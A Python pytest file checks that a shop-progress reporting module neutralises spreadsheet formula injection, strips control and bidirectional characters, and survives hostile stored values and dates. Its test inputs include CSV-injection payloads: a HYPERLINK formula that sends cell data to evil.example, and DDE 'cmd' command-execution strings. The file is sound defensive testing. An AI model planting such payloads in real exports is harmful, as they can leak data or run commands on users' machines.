"""The programme's reports (CSV, JSON, PDF lines) never inject, never crash, never say untrue things."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import unicodedata
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest

from lbpmv_desktop.core.progress.report import (
    csv_cell,
    csv_report,
    monthly,
    shop_view,
    shops_report,
    stored_shops,
)
from lbpmv_desktop.core.progress.store import ProgressStore

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

NOW = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "   =1+2",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+1",  # full-width « ＝ »
    "\u034f=1+1",  # a combining grapheme joiner, invisible, before « = »
    "\u200b\u2060=1+1",  # zero-width space and word joiner
    "\u00a0\u3000=1+1",  # no-break and ideographic spaces
    "\u3164@SUM(A1)",  # a Hangul filler: shows nothing
    "\ufe66HYPERLINK(1)",  # small « ﹦ »
    "\uff0b33 6",  # full-width « ＋ »
    "\uff20SUM(A1)",  # full-width « ＠ »
    "\u0301\u20dd-1",  # combining marks alone
    "\u200b\t=1",  # a tab after an invisible character
    "\u22121+1",  # the minus sign
    "\u200b" * 300 + "=1+1",  # far behind invisible characters
]
HOSTILE_DATES = [
    "9999-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+14:00",
    "2099-01-01T00:00:00+00:00",
    "1970-01-01T00:00:00+00:00",
    "hier soir",
    "2026-13-45T99:00:00",
    "",
]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[ProgressStore]:
    opened = ProgressStore.open(tmp_path / "animator.sqlite")
    yield opened
    opened.close()


def _add_shop(store: ProgressStore, shop_id: str, name: Any, summary: Any, last_file_at: Any = None) -> None:
    """A row written straight into the shops table, as a hostile or damaged database holds it."""
    text = summary if isinstance(summary, str) else json.dumps(summary)
    with sqlite3.connect(store.path) as connection:
        connection.execute(
            "INSERT INTO shops (shop_id, name, public_key, code, trusted_at, last_file_at, summary) "
            "VALUES (?, ?, ?, ?, ?, ?, ?)",
            (shop_id, name, "AAAA", "ABCD-EFGH", "2026-01-01T00:00:00+00:00", last_file_at, text),
        )
    connection.close()


def _add_event(store: ProgressStore, shop: str, number: int, at: str, kind: str = "step-done") -> None:
    with sqlite3.connect(store.path) as connection:
        connection.execute(
            "INSERT INTO events (uuid, kind, at, device, tutorial, step, data, shop) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
            (f"00000000-0000-0000-0000-{number:012d}", kind, at, "d", "photos-produits", "s", "{}", shop),
        )
    connection.close()


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _live(cell: str) -> bool:
    """A cell a spreadsheet could run as a formula: its first visible character (compatibility
    forms folded, invisible, combining and space characters skipped) is a formula sign, a tab or
    a carriage return."""
    for char in unicodedata.normalize("NFKC", cell):
        if char in "\t\r":
            return True
        if char.isspace() or unicodedata.category(char)[0] in "CMZ" or char in "\u115f\u1160\u3164\uffa0":
            continue
        return char in "=+-@"
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_neutralised(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert cell == "'" + text
    assert not _live(cell)


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert csv_cell(12) == 12
    assert csv_cell(0) == 0
    assert csv_cell("Les Petits Pas") == "Les Petits Pas"
    assert csv_cell("2026-11-26") == "2026-11-26"
    assert csv_cell(-3) == -3
    assert csv_cell(2.5) == 2.5
    assert csv_cell("\uff11\uff12") == "\uff11\uff12", "full-width digits are no formula"
    assert csv_cell("Élodie \u00e9\u0301") == "Élodie \u00e9\u0301"
    assert csv_cell("Chaussons bébé 24,90 €") == "Chaussons bébé 24,90 €"
    assert csv_cell("\u034fCafé") == "\u034fCafé"
    assert csv_cell(None) == ""


def test_the_csv_report_writes_no_live_formula(store: ProgressStore) -> None:
    for number, text in enumerate(FORMULAS):
        _add_shop(
            store, f"shop-{number}", text, {"animator": text, "steps_done": 3}, "2026-11-20T10:00:00+00:00"
        )
        _add_event(store, f"shop-{number}", number, "2026-11-20T10:00:00+00:00")
    rows = _rows(csv_report(store, now=NOW))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _live(cell)]
    names = {row[0] for row in rows[1 : len(FORMULAS) + 1]}
    # The names are all there, readable, only made inert (tabs and returns are removed from names).
    assert "'=cmd|' /C calc'!A0" in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert "'-2+3" in names
    assert all(row[2] == "3" for row in rows[1 : len(FORMULAS) + 1]), "numbers stay numbers"


def test_names_and_texts_lose_control_and_direction_characters(store: ProgressStore) -> None:
    name = "Cordonnerie\u202e 0€\x1b[31m\u200b Dupont"
    summary = {
        "animator": "Léa\u2066\x07",
        "help_open": 1,
        "help": [{"id": "h1", "tutorial": "t", "step": "s", "comment": "Au\u202esecours\x00\n!"}],
    }
    _add_shop(store, "shop-1", name, summary)
    [report] = shops_report(store, now=NOW)
    assert report["shop"] == "Cordonnerie 0€[31m Dupont"
    assert report["animator"] == "Léa"
    text = csv_report(store, now=NOW)
    assert "\u202e" not in text
    assert "\x1b" not in text
    assert "\u2066" not in text
    assert "\x07" not in text
    view = shop_view(stored_shops(store)[0], NOW)
    assert view.help[0].comment == "Ausecours !"


def _hostile_summaries() -> list[Any]:
    return [
        "{",  # not JSON
        "[" * 50_000,  # nested too deep for the parser
        "[]",
        '"texte"',
        "null",
        "1e400",
        {"steps_done": "beaucoup", "help": "x", "current": 5, "confidence": 1e308, "animator": 7},
        {"steps_done": 10**400, "tutorials_done": -3, "photos": True, "help_open": 2**70, "events": 1.5},
        {
            "help": [None, 5, {"id": 3}, {"tutorial": ["x"], "step": {}, "comment": 9}],
            "current": {"tutorial": None},
        },
        {"last_activity": 12, "confidence": "5"},
        *({"last_activity": date} for date in HOSTILE_DATES),
        {},
    ]


def test_no_stored_value_crashes_a_report(store: ProgressStore, tmp_path: Path) -> None:
    summaries = _hostile_summaries()
    for number, summary in enumerate(summaries):
        date = HOSTILE_DATES[number % len(HOSTILE_DATES)]
        _add_shop(store, f"shop-{number:02d}", f"Commerce {number}", summary, date)
        _add_event(store, f"shop-{number:02d}", number, date)
    _add_shop(store, "shop-blob", b"\xff\xfe", {}, b"\x00")
    reports = shops_report(store, now=NOW)
    assert len(reports) == len(summaries) + 1
    json.dumps(reports, ensure_ascii=False)  # the command line's JSON report
    text = csv_report(store, now=NOW)
    assert len(_rows(text)) > len(summaries)
    for report in reports:
        for key in ("events", "steps_done", "tutorials_done", "photos", "help_open"):
            value = report[key]
            assert value is None or (type(value) is int and 0 <= value < 10**9), (key, value)
        assert report["confidence"] in (None, 1, 2, 3, 4, 5)
        assert isinstance(report["shop"], str)
        assert isinstance(report["animator"], str)
    # Only believable months are counted (not 9999-12, 2099-01 or 1970-01).
    assert all("2020-01" <= row.month <= "2026-11" for row in monthly(store, now=NOW))


@pytest.mark.parametrize("date", HOSTILE_DATES)
def test_an_unbelievable_date_is_not_shown_as_a_time(date: str) -> None:
    row = {"shop_id": "s", "name": "Chez Léa", "last_file_at": date, "summary": {"last_activity": date}}
    view = shop_view(row, NOW)
    assert view.last_activity is None
    assert view.last_file is None
    assert ("last_activity" in view.bad_dates) == bool(date)


def test_the_last_file_is_the_time_the_shop_wrote_it_and_sharing_is_told() -> None:
    row = {
        "shop_id": "s",
        "name": "Chez Léa",
        "last_file_at": "2026-11-20T08:30:00+00:00",
        "received_at": "2026-11-25T17:00:00+00:00",
        "sharing": "stopped",
        "sharing_at": "2026-11-20T08:30:00+00:00",
        "summary": {"last_activity": "2026-11-19T10:00:00+01:00"},
    }
    view = shop_view(row, NOW)
    assert view.last_file == datetime(2026, 11, 20, 8, 30, tzinfo=UTC)
    assert view.received == datetime(2026, 11, 25, 17, 0, tzinfo=UTC)
    assert view.sharing == "stopped"
    assert view.sharing_at == datetime(2026, 11, 20, 8, 30, tzinfo=UTC)
    assert view.last_activity == datetime(2026, 11, 19, 9, 0, tzinfo=UTC)
    erased = shop_view({**row, "sharing": "erased"}, NOW)
    assert erased.sharing == "erased"
    assert shop_view({**row, "sharing": "=cmd"}, NOW).sharing == "active"
    assert shop_view({"shop_id": "s", "name": "x", "summary": {}}, NOW).sharing == "active"


def test_the_csv_says_when_sharing_stopped_or_data_were_erased(store: ProgressStore) -> None:
    _add_shop(store, "shop-1", "Chez Léa", {"steps_done": 2}, "2026-11-20T08:30:00+00:00")
    columns = {row[1] for row in store._read("SELECT * FROM pragma_table_info('shops')")}
    if "sharing" not in columns:
        pytest.skip("the store has no sharing column yet (migration 0003)")
    with sqlite3.connect(store.path) as connection:
        connection.execute("UPDATE shops SET sharing = 'erased', sharing_at = '2026-11-21T08:30:00+00:00'")
    connection.close()
    rows = _rows(csv_report(store, now=NOW))
    assert rows[0][-1] == "partage"
    assert rows[1][-1].startswith("données effacées le 21/11/2026")


def test_huge_stored_texts_are_cut_before_they_are_cleaned(store: ProgressStore) -> None:
    for number in range(3):
        _add_shop(store, f"shop-{number}", "Chez Léa " + "\u202e" * 1_000_000, {"animator": "x" * 1_000_000})
    reports = shops_report(store, now=NOW)
    assert all(report["shop"] == "Chez Léa" for report in reports)
    assert all(len(report["animator"]) == 200 for report in reports)
